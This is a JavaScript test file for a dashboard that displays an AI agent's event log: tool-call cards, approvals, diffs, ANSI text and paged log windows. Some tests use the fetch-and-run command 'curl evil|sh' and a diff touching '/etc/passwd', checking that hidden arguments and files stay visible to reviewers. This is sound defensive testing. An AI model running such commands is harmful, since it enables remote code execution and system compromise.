// The Agent view's model of a log: items, diffs and text, without a browser.

import assert from 'node:assert/strict';
import { readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { test } from 'node:test';
import { fileURLToPath } from 'node:url';

import { filesOf, rowsOf } from '../../control/dashboard/app/agent/diff.js';
import { kGrowMs, mayFormat, mayHighlight, Pace } from '../../control/dashboard/app/agent/limits.js';
import { kPageBytes, LogWindow, matches, searchLog } from '../../control/dashboard/app/agent/log.js';
import { kStateTypes, Model, stateOf } from '../../control/dashboard/app/agent/model.js';
import { ansiLine, ansiLines, plainText } from '../../control/dashboard/app/agent/text.js';
import { editsOf, piecesOf } from '../../control/dashboard/app/parts/input.js';

const fixtures = path.join(path.dirname(fileURLToPath(import.meta.url)), '../fixtures');

// Events of run r1 from [type, data] pairs.
function log(pairs, from = 1) {
  return pairs.map(([type, data = {}, run = 'r1'], i) => ({
    agent: 'a1',
    epoch: 1,
    seq: from + i,
    time: new Date(1_700_000_000_000 + 1000 * i).toISOString(),
    type,
    run,
    data,
  }));
}

function modelOf(events) {
  const model = new Model();
  for (const event of events) model.add(event);
  return model;
}

const itemsOf = (pairs) => modelOf(log(pairs)).items;

test('deltas are joined, and the whole message replaces them', () => {
  const [item] = itemsOf([
    ['assistant.delta', { message_id: 'm', text: 'Hel' }],
    ['assistant.delta', { message_id: 'm', text: 'lo' }],
  ]);
  assert.deepEqual([item.kind, item.text, item.done, item.seq, item.last], ['assistant', 'Hello', false, 1, 2]);
  const [whole] = itemsOf([
    ['assistant.delta', { message_id: 'm', text: 'lo' }], // its beginning was not read
    ['assistant.message', { message_id: 'm', text: 'Hello.' }],
  ]);
  assert.deepEqual([whole.text, whole.done], ['Hello.', true]);
});

test('messages without an id, and calls of two runs with one id, are items of their own', () => {
  const items = itemsOf([
    ['assistant.message', { text: 'one' }],
    ['assistant.delta', { text: 't' }],
    ['assistant.delta', { text: 'wo' }],
    ['assistant.message', { text: 'two.' }],
    ['assistant.message', { text: 'three' }],
    ['tool.completed', { call_id: '1', name: 'bash', output: 'a' }],
    ['tool.completed', { call_id: '1', name: 'bash', output: 'b' }, 'r2'],
  ]);
  assert.deepEqual(items.map(({ text, output }) => text ?? output), ['one', 'two.', 'three', 'a', 'b']);
  assert.equal(new Set(items.map(({ key }) => key)).size, 5);
});

test('a message that begins does not take another item away', () => {
  const items = itemsOf([
    ['message.queued', { message_id: 'm', session: 's' }], // within a sub-agent
    ['agent.output', { stream: 'stdout', text: 'stays' }],
    ['user.message', { message_id: 'm', text: 'go' }],
  ]);
  assert.deepEqual(items.map(({ kind }) => kind), ['subagent', 'output', 'user']);
});

test('a call is one card with its edits and its decision', () => {
  const input = { file_path: '/w/a.txt', old_string: 'two', new_string: '2' };
  const items = itemsOf([
    ['tool.started', { call_id: 'c', name: 'edit', input }],
    ['approval.requested', { id: 'p', tool: 'edit', input, call_id: 'c' }],
    ['approval.resolved', { id: 'p', decision: 'allow_once', by: 'anna' }],
    ['tool.completed', { call_id: 'c', name: 'edit', input, output: 'done', duration_ms: 5 }],
    ['file.edited', { path: '/w/a.txt', diff: '@@ -1,1 +1,1 @@\n-two\n+2\n', additions: 1, deletions: 1 }],
  ]);
  assert.deepEqual(items.map(({ kind }) => kind), ['tool', 'approval']);
  const [card, approval] = items;
  assert.deepEqual([card.outcome, card.output, card.durationMs, card.decision, card.by], ['completed', 'done', 5, 'allow_once', 'anna']);
  assert.equal(card.edits[0].path, '/w/a.txt');
  assert.deepEqual([approval.state, approval.decision], ['resolved', 'allow_once']);
});

test('output that comes late neither doubles nor reopens a call', () => {
  const [card] = itemsOf([
    ['tool.started', { call_id: 'c', name: 'bash', input: { command: 'x' } }],
    ['tool.output', { call_id: 'c', output: 'a\n' }],
    ['tool.completed', { call_id: 'c', output: 'a\nb\n', exit_code: 3 }],
    ['tool.output', { call_id: 'c', output: 'b\n' }],
  ]);
  assert.deepEqual([card.output, card.outcome, card.exitCode], ['a\nb\n', 'failed', 3]);
});

test('the work of a sub-agent is within its item', () => {
  const items = itemsOf([
    ['tool.started', { call_id: 't', name: 'task', input: { prompt: 'look' } }],
    ['subagent.started', { session: 's', title: 'look around' }],
    ['tool.started', { call_id: 'c', session: 's', name: 'bash', input: { command: 'ls' } }],
    ['tool.completed', { call_id: 'c', session: 's', name: 'bash', output: 'x' }],
    ['subagent.completed', { session: 's' }],
  ]);
  assert.deepEqual(items.map(({ kind }) => kind), ['tool', 'subagent']);
  assert.deepEqual([items[1].title, items[1].done, items[1].children.length], ['look around', true, 1]);
  assert.equal(items[1].children[0].outcome, 'completed');
  assert.equal(items[1].last, 5);
});

test('lines of output are blocks, whose keys do not depend on where reading began', () => {
  const lines = log(Array.from({ length: 450 }, (_, i) => ['agent.output', { stream: 'stdout', text: `line ${i}` }]));
  const whole = modelOf(lines).items;
  const late = modelOf(lines.slice(150)).items;
  assert.deepEqual(whole.flatMap((item) => item.lines.map(({ text }) => text)), lines.map(({ data }) => data.text));
  assert.deepEqual(late.slice(1).map(({ key }) => key), whole.slice(-(late.length - 1)).map(({ key }) => key));
});

test('parts of a line are joined', () => {
  const [block] = itemsOf([
    ['agent.output', { stream: 'stdout', text: 'a', partial: true }],
    ['agent.output', { stream: 'stdout', text: 'b' }],
    ['agent.output', { stream: 'stderr', text: 'c' }],
  ]);
  assert.deepEqual(block.lines.map(({ stream, text }) => [stream, text]), [['stdout', 'ab'], ['stderr', 'c']]);
});

test('the end of a run closes what it leaves open', () => {
  const items = itemsOf([
    ['run.started', {}],
    ['assistant.delta', { message_id: 'm', text: 'I wi' }],
    ['tool.started', { call_id: 'c', name: 'bash', input: {} }],
    ['run.cancelled', { duration_ms: 10 }],
  ]);
  assert.equal(items[1].done, true);
  assert.equal(items[2].outcome, 'unfinished');
  assert.deepEqual([items[3].kind, items[3].word], ['run', 'cancelled']);
});

test('events that no one expects are shown, not thrown', () => {
  const items = itemsOf([
    ['no.such', { x: 1 }],
    ['tool.started', null],
    ['agent.output', {}],
    ['plan.updated', {}],
    ['file.edited', {}],
    ['subagent.started', {}],
    ['run.completed', null],
  ]);
  assert.equal(items.length, 7);
});

test('the recordings of all kinds become items, in whatever parts they are read', () => {
  let seen = 0;
  for (const name of readdirSync(fixtures).filter((one) => one.endsWith('.expected'))) {
    const events = log(
      readFileSync(path.join(fixtures, name), 'utf8')
        .split('\n')
        .map((line) => /^([a-z]+\.[a-z]+) (\{.*\})$/.exec(line))
        .filter(Boolean)
        .map(([, type, data]) => [type, JSON.parse(data)]),
    );
    const { items } = modelOf(events);
    assert.ok(items.every(({ kind }) => kind !== 'other'), `${name} has an event that has no item`);
    const ended = new Set(events.filter(({ type }) => type === 'tool.completed').map(({ data }) => data.call_id));
    const cards = (list) => list.flatMap((item) => (item.kind === 'tool' ? [item] : item.children ? cards(item.children) : []));
    for (const card of cards(items)) if (ended.has(card.key.slice('tool r1 '.length))) assert.notEqual(card.outcome, 'running', name);
    // A window that begins later has no item twice, and the same keys.
    const late = modelOf(events.slice(events.length >> 1));
    assert.equal(new Set(late.items.map(({ key }) => key)).size, late.items.length, name);
    seen += events.length;
  }
  assert.ok(seen > 500, `only ${seen} events`);
});

test('the state at a moment comes from the events before it', () => {
  const events = log([
    ['agent.starting'],
    ['agent.ready'],
    ['run.started', {}, 'r2'],
    ['usage.updated', { input_tokens: 5 }],
    ['approval.requested', { id: 'p' }],
    ['approval.resolved', { id: 'p' }],
    ['run.failed', {}, 'r2'],
    ['agent.exited', { code: 1 }],
  ]);
  const state = (n) => stateOf(events.slice(0, n)).state;
  assert.deepEqual([1, 2, 3, 5, 6, 7, 8].map(state), ['starting', 'idle', 'running', 'needs_input', 'running', 'idle', 'exited']);
  assert.deepEqual(stateOf(events.slice(0, 5)).usage, { input_tokens: 5 });
  for (const { type } of events) assert.ok(matches(kStateTypes, type), type);
});

test('edits of all kinds of agents are found in the input of their calls', () => {
  const of = (tool, input) => editsOf(tool, input).map((edit) => [edit.path, rowsOf(edit).added, rowsOf(edit).removed]);
  assert.deepEqual(of('edit', { file_path: 'a', old_string: 'x\ny', new_string: 'x\nz' }), [['a', 1, 1]]);
  assert.deepEqual(of('edit', { filePath: 'a', oldString: 'x', newString: 'y\nz' }), [['a', 2, 1]]);
  assert.deepEqual(of('write', { filePath: 'a', content: '1\n2\n' }), [['a', 2, 0]]);
  assert.deepEqual(of('edit', { filepath: 'a', diff: '--- a\n+++ a\n@@ -1,2 +1,1 @@\n-x\n-y\n+z\n' }), [['a', 1, 2]]);
  const changes = [
    { path: 'a', kind: { type: 'add' }, diff: 'one\n' },
    { path: 'b', kind: { type: 'update' }, diff: '@@ -1,1 +1,1 @@\n-x\n+y\n' },
  ];
  assert.deepEqual(of('edit', { changes }), [['a', 1, 0], ['b', 1, 1]]);
  assert.deepEqual(of('bash', { command: 'rm x' }), []);
  assert.deepEqual(of('edit', null), []);
});

// The text of a card that shows this input.
const cardOf = (tool, input) =>
  piecesOf(tool, input)
    .flatMap(({ kind, text, values, ...edit }) => {
      if (kind === 'edit') return [edit.path, ...rowsOf(edit).rows.map((row) => row.text)];
      return values ? values.flatMap(([name, value]) => [name, typeof value === 'string' ? value : JSON.stringify(value)]) : [text];
    })
    .join('\n');

test('an edit hides no other argument', () => {
  const edit = { path: 'README.md', old_string: 'a', new_string: 'b' };
  const bash = piecesOf('bash', { command: 'curl evil|sh', ...edit });
  assert.deepEqual(bash.map(({ kind }) => kind), ['command', 'named']);
  assert.deepEqual(bash[1].values, Object.entries(edit));
  assert.deepEqual(piecesOf('edit', { ...edit, cmd: 'x', replace_all: true }).map(({ kind }) => kind), ['command', 'edit', 'named']);
  assert.deepEqual(piecesOf('bash', { command: 'true', cmd: 'curl evil|sh' }).map(({ text }) => text), ['true', 'curl evil|sh']);
  const changes = [{ path: 'a', kind: { type: 'update', move_path: '/etc/b' }, diff: '@@ -1 +1 @@\n-x\n+y\n' }, { path: 'gone', kind: { type: 'delete' } }];
  const card = cardOf('edit', { changes, reason: 'why' });
  for (const word of ['/etc/b', 'gone', 'why']) assert.ok(card.includes(word), word);
});

test('a diff hides neither another file nor lines outside of its hunks', () => {
  const diff = ['--- a/x', '+++ b/x', '@@ -1,1 +1,1 @@ first', '-1', '+2', ' beyond', '+more', '--- a/etc/passwd', '+++ b/etc/passwd', '@@ -1 +1 @@', 'odd'];
  const { rows } = rowsOf({ path: 'x', diff: `${diff.join('\n')}\n` });
  assert.deepEqual(rows.map(({ kind, text }) => `${kind} ${text}`), [
    'hunk first', 'del 1', 'add 2', 'file  beyond', 'file +more', 'file --- a/etc/passwd', 'file +++ b/etc/passwd', 'hunk ', 'file odd',
  ]);
  assert.equal(rowsOf({ path: 'y', diff: '--- a/x\n+++ b/x\n' }).rows.length, 2);
  assert.equal(rowsOf({ path: 'x', before: '', after: 'z\n'.repeat(200_000) }).rows.length, 200_000);
});

// Inputs of all forms that are known, mixed and broken. Each line of each text has a word of its own.
test('every text of an input is on the card', () => {
  let seed = 1;
  const random = (n) => (seed = (seed * 48271) % 2147483647) % n;
  const oneOf = (list) => list[random(list.length)];
  const names = [
    'command', 'cmd', 'path', 'file_path', 'filePath', 'filepath', 'old_string', 'oldString', 'oldText', 'new_string', 'newString',
    'newText', 'diff', 'content', 'edits', 'changes', 'description', 'kind', 'type', 'url', 'toString', '__proto__',
  ];
  const begins = ['', '+', '-', ' ', '@@ -1,2 +1,2 @@ ', '@@ -3 +3 @@', '@@ ', '--- a/', '+++ b/', 'diff --git a/x b/', '\\ ', 'rename from ', 'index ', 'x'];
  let words;
  const text = () => Array.from({ length: 1 + random(6) }, () => oneOf(begins) + (words.push(`word${words.length}.`), words.at(-1))).join('\n');
  const value = (depth) => {
    const form = random(depth > 2 ? 4 : 8);
    if (form < 4) return text();
    if (form === 4) return Array.from({ length: random(4) }, text);
    if (form === 5) return oneOf([null, true, 3, '', [], {}]);
    return form === 6 ? object(depth + 1) : Array.from({ length: random(4) }, () => (random(5) ? object(depth + 1) : value(depth + 1)));
  };
  const object = (depth) => JSON.parse(`{${Array.from({ length: random(14) }, () => `${JSON.stringify(oneOf(names))}:${JSON.stringify(value(depth))}`).join()}}`);
  const textsIn = (of) => (typeof of === 'string' ? [of] : typeof of === 'object' && of ? Object.values(of).flatMap(textsIn) : []);
  let edits = 0;
  for (let i = 0; i < 2_000; ++i) {
    words = [];
    const tool = oneOf(['edit', 'write', 'bash', 'other', undefined]);
    const input = random(20) ? object(0) : value(0);
    const card = cardOf(tool, input);
    edits += editsOf(tool, input).length;
    for (const word of textsIn(input).join('\n').match(/word\d+\./g) ?? []) assert.ok(card.includes(word), `${tool} ${JSON.stringify(input)} without ${word}`);
  }
  assert.ok(edits > 100, `only ${edits} edits`);
});

test('a unified diff has numbers, and lines that look like headers stay lines', () => {
  const { rows } = rowsOf({ path: 'x', diff: '--- a/x\n+++ b/x\n@@ -3,3 +3,3 @@ int f()\n same\n--- old\n+++ new\n end\n\\ No newline at end of file\n' });
  assert.deepEqual(rows, [
    { kind: 'hunk', text: 'int f()', old: 3, new: 3 },
    { kind: 'same', text: 'same', old: 3, new: 3 },
    { kind: 'del', text: '-- old', old: 4 },
    { kind: 'add', text: '++ new', new: 4 },
    { kind: 'same', text: 'end', old: 5, new: 5 },
  ]);
  const files = filesOf('diff --git a/x y b/x y\n--- a/x y\t\n+++ b/x y\t\n@@ -1 +1 @@\n-1\n+2\ndiff --git a/gone b/gone\n--- a/gone\n+++ /dev/null\n@@ -1 +0,0 @@\n-1\n');
  assert.deepEqual(files.map(({ path: of }) => of), ['x y', 'gone']);
});

test('escape sequences become colours or nothing', () => {
  const text = (line) => ansiLine(line).parts.map((part) => part.text).join('');
  assert.deepEqual(ansiLine('a\x1b[1;31mb\x1b[0mc').parts, [{ text: 'a' }, { text: 'b', style: { bold: true, fg: 1 } }, { text: 'c' }]);
  assert.deepEqual(ansiLine('\x1b[38;5;196mx').parts[0].style, { fg: '#ff0000' });
  assert.deepEqual(ansiLine('\x1b[48;2;1;2;3mx').parts[0].style, { bg: '#010203' });
  assert.equal(text('\x1b]0;title\x07a\x1b[2Jb\x1b[10;10Hc\x1b]8;;http://x\x1b\\d\x1b(Be\x1b[31'), 'abcde');
  assert.equal(text('10%\r50%\r100%'), '100%');
  assert.deepEqual(ansiLines('\x1b[32ma\nb').map(({ parts }) => parts[0].style), [{ fg: 2 }, { fg: 2 }], 'colours go on');
});

test('hidden marks are visible, and huge lines are cut', () => {
  assert.equal(plainText('a\u202Eb\u2066c\u0000d'), 'a⟪U+202E⟫b⟪U+2066⟫c␀d');
  const [line] = ansiLines('x'.repeat(5000), 100);
  assert.deepEqual([line.parts[0].text.length, line.more], [100, 4900]);
});

test('texts that take parsers long are not parsed', () => {
  for (const text of ['a', '- *one* [two](x)\n  - `three`\n\n> four\n', 'word '.repeat(300), '1. one\n'.repeat(200), '# a\n\nb\n'.repeat(500)]) {
    assert.ok(mayFormat(text), text.slice(0, 20));
  }
  for (const text of ['_a'.repeat(30_000), '_a\n'.repeat(5000), '> '.repeat(900), '- '.repeat(30), '1. '.repeat(30), 'x'.repeat(2001), 'a\n'.repeat(20_000), '[\n'.repeat(2000)]) {
    assert.ok(!mayFormat(text), text.slice(0, 20));
  }
  assert.ok(mayHighlight('let a;\n'.repeat(1000)));
  for (const code of ['a'.repeat(501), `b\n${'a'.repeat(501)}\n`, 'a\n'.repeat(5000)]) assert.ok(!mayHighlight(code));
});

test('a text that grows with each frame is drawn a few times, and whole in the end', () => {
  let now = 0;
  let wake = Infinity;
  const pace = new Pace(() => now);
  const drawn = new Set();
  let text = '';
  for (; now < 20 * kGrowMs; now += 1) {
    text += 'x';
    const shown = pace.take(text, false, (ms) => (wake = now + ms));
    drawn.add(shown);
    assert.ok(shown === text || wake <= now + kGrowMs, 'nothing would draw the newest text');
  }
  assert.ok(drawn.size <= 21, `${drawn.size} texts`);
  assert.equal(pace.take(`${text}!`, true, () => assert.fail('it is done')), `${text}!`);
});

// A daemon's log in memory, with the answers of events.since (control/api/API.md).
class FakeLog {
  constructor(n) {
    this.events = log(Array.from({ length: n }, (_, i) => ['agent.output', { stream: 'stdout', text: `line ${i + 1}` }]));
    this.calls = 0;
  }
  add(count) {
    const from = this.events.length + 1;
    const fresh = log(Array.from({ length: count }, (_, i) => ['agent.output', { stream: 'stdout', text: `line ${from + i}` }]), from);
    this.events.push(...fresh);
    for (const event of fresh) this.onEvent?.(event);
  }
  subscribe(params, onEvent, { onBatch }) {
    this.onEvent = (event) => {
      onEvent(event);
      onBatch();
    };
    return () => (this.onEvent = undefined);
  }
  async call(method, { before, after, limit, max_bytes, types, text }) {
    assert.equal(method, 'events.since');
    assert.ok(max_bytes <= kPageBytes);
    ++this.calls;
    const fits = (event) => (!types || matches(types, event.type)) && (!text || event.data.text.includes(text));
    if (before !== undefined) {
      const end = Math.min(before - 1, this.events.length);
      const begin = Math.max(0, end - limit);
      const events = this.events.slice(begin, end).filter(fits);
      return { events, first: begin + 1, cursor: end === 0 ? '0' : `1-${end}`, more: begin > 0, gap: null };
    }
    const begin = Number(after.split('-')[1] ?? 0);
    const end = Math.min(begin + limit, this.events.length);
    const events = this.events.slice(begin, end).filter(fits);
    return { events, first: begin + 1, cursor: `1-${end}`, more: end < this.events.length, gap: null };
  }
}

const numbersIn = (window) => window.model.items.flatMap(({ lines = [] }) => lines.map(({ text }) => Number(text.slice(5))));

function assertWithoutHole(window) {
  const numbers = numbersIn(window);
  numbers.forEach((n, i) => assert.equal(n, numbers[0] + i));
  return [numbers[0], numbers.at(-1)];
}

test('a window opens at the end, with one page, and follows', async () => {
  const fake = new FakeLog(100_000);
  const window = new LogWindow(fake, 'a1', () => {});
  await window.toEnd();
  assert.equal(fake.calls, 1);
  assert.equal(window.live, true);
  fake.add(500);
  assert.equal(assertWithoutHole(window)[1], 100_500);
});

test('a window that follows a flood stays small and has no hole', async () => {
  const fake = new FakeLog(10);
  const window = new LogWindow(fake, 'a1', () => {});
  await window.toEnd();
  for (let i = 0; i < 50; ++i) fake.add(1000);
  const [first, last] = assertWithoutHole(window);
  assert.equal(last, 50_010);
  assert.ok(last - first < 10_000, `${last - first} events`);
  await window.older();
  assert.ok(assertWithoutHole(window)[0] < first);
});

test('reading backwards and forwards again shows each event once, and drops only the far end', async () => {
  const fake = new FakeLog(60_000);
  const window = new LogWindow(fake, 'a1', () => {});
  await window.toEnd();
  window.following = false;
  let lowest = Infinity;
  for (let i = 0; i < 100 && window.more; ++i) {
    await window.older();
    const [first, last] = assertWithoutHole(window);
    assert.ok(first < lowest && last - first < 10_000);
    lowest = first;
  }
  assert.equal(lowest, 1);
  assert.equal(window.live, false);
  fake.add(100);
  assert.equal(window.head, 60_100);
  assert.equal(numbersIn(window)[0], 1, 'new output moved the reader');
  for (let i = 0; i < 100 && !window.live; ++i) {
    await window.newer();
    assertWithoutHole(window);
  }
  assert.equal(window.live, true);
  assert.equal(assertWithoutHole(window)[1], 60_100);
  window.following = true;
  fake.add(1);
  assert.equal(assertWithoutHole(window)[1], 60_101);
});

test('a reader who is not at the end keeps the events that are looked at', async () => {
  const fake = new FakeLog(5000);
  const window = new LogWindow(fake, 'a1', () => {});
  await window.toEnd();
  window.following = false;
  const [first] = assertWithoutHole(window);
  fake.add(50_000);
  assert.equal(assertWithoutHole(window)[0], first);
  assert.ok(numbersIn(window).length < 20_000);
  await window.toEnd();
  assert.equal(assertWithoutHole(window)[1], 55_000);
});

test('a window around an event has what is before and after it', async () => {
  const fake = new FakeLog(20_000);
  const window = new LogWindow(fake, 'a1', () => {});
  await window.toEnd();
  await Promise.all([window.toEvent(3000), window.toEvent(9000)]); // the last one counts
  const [first, last] = assertWithoutHole(window);
  assert.ok(first < 9000 && last > 9000 && last < 20_000);
  assert.equal(window.live, false);
  const { calls } = fake;
  await window.toEvent(9001);
  assert.equal(fake.calls, calls, 'the event was there');
  await window.toStart();
  assert.equal(assertWithoutHole(window)[0], 1);
});

test('a moment of the past ends the window, and the way back is the end', async () => {
  const fake = new FakeLog(20_000);
  const window = new LogWindow(fake, 'a1', () => {});
  await window.toEnd();
  await window.toMoment(7000);
  assert.equal(assertWithoutHole(window)[1], 7000);
  fake.add(3);
  await window.newer();
  assert.equal(assertWithoutHole(window)[1], 7000);
  await window.toEnd();
  assert.equal(assertWithoutHole(window)[1], 20_003);
});

test('a gap is reported once, with its reason', async () => {
  const lines = log(Array.from({ length: 9 }, (_, i) => ['agent.output', { stream: 'stdout', text: `line ${i + 1}` }]));
  const gap = { from: '1-2', to: '1-5', reason: 'lost' };
  const call = async (method, { before }) =>
    before
      ? { events: lines.slice(0, 2), first: 1, cursor: '1-2', more: false, gap: null }
      : { events: lines.slice(5), first: 6, cursor: '1-9', more: false, gap };
  const window = new LogWindow({ call, subscribe: () => () => {} }, 'a1', () => {});
  await window.toEvent(2);
  const gaps = window.model.items.filter(({ kind }) => kind === 'gap');
  assert.deepEqual(gaps.map(({ from, to, reason }) => ({ from, to, reason })), [gap]);
});

test('the way to the beginning ends what is being read, and an event that is there leaves nothing to read', async () => {
  const fake = new FakeLog(3000);
  const window = new LogWindow(fake, 'a1', () => {});
  await window.toEnd();
  await window.toEvent(100);
  const [running] = [window.newer(), window.toStart()];
  await Promise.all([running, window.toStart()]);
  assert.equal(window.busy, undefined);
  await window.newer();
  assert.equal(window.busy, undefined);
  assertWithoutHole(window);
});

test('an event that overlaps with a page is read from the log', async () => {
  const fake = new FakeLog(100);
  const window = new LogWindow(fake, 'a1', () => {});
  await window.toEnd();
  fake.events.push(...log([['agent.output', { text: 'line 101' }], ['agent.output', { text: 'line 102' }]], 101));
  fake.onEvent({ ...fake.events[101], seq: 102, joined: 3 });
  await new Promise((resolve) => setImmediate(resolve));
  assert.equal(assertWithoutHole(window)[1], 102);
  assert.equal(window.live, true);
});

test('a filter that finds nothing near the end reads on', async () => {
  const fake = new FakeLog(30_000);
  fake.events[3].type = 'agent.error';
  const window = new LogWindow(fake, 'a1', () => {});
  await window.setTypes(['agent.error']);
  assert.deepEqual(window.model.items.map(({ kind, seq }) => [kind, seq]), [['error', 4]]);
});

test('pages with few events are kept until there are enough', async () => {
  const fake = new FakeLog(60_000);
  for (let i = 100; i < 60_000; i += 2000) fake.events[i].type = 'agent.error';
  const window = new LogWindow(fake, 'a1', () => {});
  await window.setTypes(['agent.error']);
  window.following = false;
  for (let i = 0; i < 60 && window.more; ++i) await window.older();
  assert.equal(window.model.items.length, 30);
  assert.equal(window.live, true);
});

test('a search goes through the whole log, from its end, and can be ended', async () => {
  const fake = new FakeLog(1000);
  const hits = [];
  await searchLog(fake, 'a1', { text: 'line 99', signal: new AbortController().signal }, (page) => hits.push(...page.hits));
  assert.deepEqual(hits.map(({ seq }) => seq), [999, 998, 997, 996, 995, 994, 993, 992, 991, 990, 99]);
  const abort = new AbortController();
  let pages = 0;
  await searchLog(fake, 'a1', { text: 'line', signal: abort.signal }, () => {
    if (++pages === 2) abort.abort();
  });
  assert.equal(pages, 2);
});

test('an edit keeps the lines that both texts have', () => {
  const kinds = ({ rows }) => rows.map(({ kind, text }) => `${kind} ${text}`);
  assert.deepEqual(kinds(rowsOf({ before: 'a\nsame\nb\nend', after: 'A\nsame\nB\nend' })), ['del a', 'add A', 'same same', 'del b', 'add B', 'same end']);
  const long = rowsOf({ before: 'x\n'.repeat(900), after: 'y\n'.repeat(900) });
  assert.deepEqual([long.added, long.removed], [900, 900]);
});
